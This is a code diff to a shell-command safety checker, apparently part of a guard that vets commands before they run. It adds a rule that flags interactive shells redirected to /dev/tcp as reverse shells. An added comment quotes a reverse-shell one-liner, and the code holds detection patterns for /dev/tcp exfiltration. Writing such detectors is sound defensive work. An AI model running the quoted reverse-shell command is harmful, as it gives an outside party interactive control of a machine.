@@ -14,6 +14,7 @@ import { RULE_TABLE } from '../table/index.js';
 import { GIT_EXEC_KEY, gitKeyPattern } from '../table/git-command.js';
 import { installHookWrite } from './supply-chain.js';
 import { noteWritten } from './written.js';
+import { SHELLS } from './code.js';
 
 const OUTPUT = /^(>|>>|>\||&>|&>>|>&|<>)$/;
 
@@ -25,6 +26,15 @@ export function checkRedirects(inv: Invocation, ctx: RuleContext): void {
     if (t && v === null && OUTPUT.test(r.op)) RULE_TABLE.reportAny(inv, ctx, [t]);
     if (!t || v === null || v === undefined) continue;
     if (/^\/dev\/(tcp|udp)\//.test(v)) {
+      // `bash -i >& /dev/tcp/host/port 0>&1`: an interactive shell whose input and output are the socket.
+      if (SHELLS.has(inv.name) && (inv.args.some((w) => /^-[a-zA-Z]*i/.test(w.value ?? '')) || inv.args.length === 0))
+        ctx.add(inv, {
+          level: 'hardline',
+          group: 'exfiltrate',
+          rule: 'reverse_shell',
+          reason: 'hands an interactive shell to a network connection (a reverse shell)',
+          at: [inv.word, t],
+        });
       ctx.add(inv, {
         group: 'exfiltrate',
         rule: 'dev_tcp',
